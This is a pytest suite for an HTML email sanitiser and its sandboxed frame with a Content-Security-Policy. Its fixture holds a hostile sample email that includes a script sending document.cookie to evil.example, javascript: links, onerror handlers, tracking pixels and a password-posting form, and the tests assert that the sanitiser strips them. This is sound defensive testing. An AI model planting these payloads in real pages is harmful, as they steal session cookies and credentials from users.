"""HTML mail sanitising (nh3) and the document it is framed in. The pages test the same through a browser."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from inboxcrm.web.mail_html import FRAME_CSP, frame_document, sanitise

HOSTILE = """
<html><head><title>t</title><style>body{background:url(https://tracker.example/bg.png)}</style>
<link rel="stylesheet" href="https://tracker.example/s.css"><base href="https://evil.example/"></head>
<body onload="steal()">
<script>document.location='https://evil.example/?c='+document.cookie</script>
<p>Hello <b>Ana</b>,</p>
<img src="https://tracker.example/p.gif" width="1" height="1">
<img src="//tracker.example/p2.gif"><img src="/relative.gif"><img src="x" onerror="alert(1)">
<img srcset="https://tracker.example/p3.gif 1x" alt="responsive">
<img src="cid:logo@acme" alt="logo"><img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
<a href="javascript:alert(1)">click</a> <a href="JaVaScRiPt:alert(2)">again</a>
<a href="data:text/html,<script>alert(3)</script>">data link</a>
<a href="https://acme-corp.example/invoice">invoice</a> <a href="mailto:carol@acme-corp.example">mail</a>
<a href="/sign-out">relative</a>
<p style="color:red;background-image:url(https://tracker.example/bg2.png);position:fixed">styled</p>
<table background="https://tracker.example/t.png" bgcolor="#eeeeee"><tr><td>cell</td></tr></table>
<form action="https://evil.example/"><input name="password"></form>
<iframe src="https://evil.example/"></iframe><object data="https://evil.example/x.swf"></object>
<svg><image href="https://tracker.example/s.png"/></svg>
<video poster="https://tracker.example/v.png"></video>
</body></html>
"""


@pytest.fixture(scope="module")
def clean() -> str:
    return sanitise(HOSTILE)


@pytest.mark.parametrize(
    "gone",
    [
        "<script",
        "steal()",
        "onerror",
        "onload",
        "tracker.example",
        "evil.example",
        "javascript:",
        "data:text",
        "<style",
        "<link",
        "<base",
        "<form",
        "<input",
        "<iframe",
        "<object",
        "<svg",
        "<video",
        "srcset",
        "position",
        "/sign-out",
        "relative.gif",
    ],
)
def test_nothing_dangerous_or_remote_is_left(clean: str, gone: str) -> None:
    assert gone.lower() not in clean.lower()


def test_what_mail_needs_is_kept(clean: str) -> None:
    assert "<p>Hello <b>Ana</b>,</p>" in clean
    assert '<img src="cid:logo@acme" alt="logo">' in clean
    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">' in clean
    assert 'href="https://acme-corp.example/invoice"' in clean and 'href="mailto:carol@acme-corp.example"' in clean
    assert 'style="color:red"' in clean
    assert 'bgcolor="#eeeeee"' in clean and "<td>cell</td>" in clean


def test_links_open_in_a_new_tab_without_referrer(clean: str) -> None:
    assert '<a href="https://acme-corp.example/invoice" target="_blank" rel="noopener noreferrer">' in clean


def test_remote_images_lose_their_source_but_keep_their_place(clean: str) -> None:
    images = images_in(clean)
    assert {"width": "1", "height": "1"} in images  # the pixel, harmless without a src
    assert [i["src"] for i in images if "src" in i] == ["cid:logo@acme", "data:image/png;base64,iVBORw0KGgo="]


def test_the_frame_document_has_its_own_policy() -> None:
    document = frame_document("<p>hi</p>")
    assert FRAME_CSP == "default-src 'none'; style-src 'unsafe-inline'; img-src data:"
    assert f'<meta http-equiv="Content-Security-Policy" content="{FRAME_CSP}">' in document
    assert document.index("Content-Security-Policy") < document.index("<p>hi</p>")
    assert frame_document("<script>x()</script>").count("<script") == 0


def test_sanitising_twice_changes_nothing_more() -> None:
    once = sanitise(HOSTILE)
    assert structure(sanitise(once)) == structure(once)  # the same, but for the order of attributes


def structure(html: str) -> list[tuple[str, ...]]:
    out: list[tuple[str, ...]] = []

    class Events(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            out.append((tag, *sorted(f"{k}={v}" for k, v in attrs)))

        def handle_endtag(self, tag: str) -> None:
            out.append(("/" + tag,))

        def handle_data(self, data: str) -> None:
            out.append(("text", data))

    Events().feed(html)
    return out


def images_in(html: str) -> list[dict[str, str]]:
    found: list[dict[str, str]] = []

    class Images(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag == "img":
                found.append({k: v or "" for k, v in attrs})

    Images().feed(html)
    return found
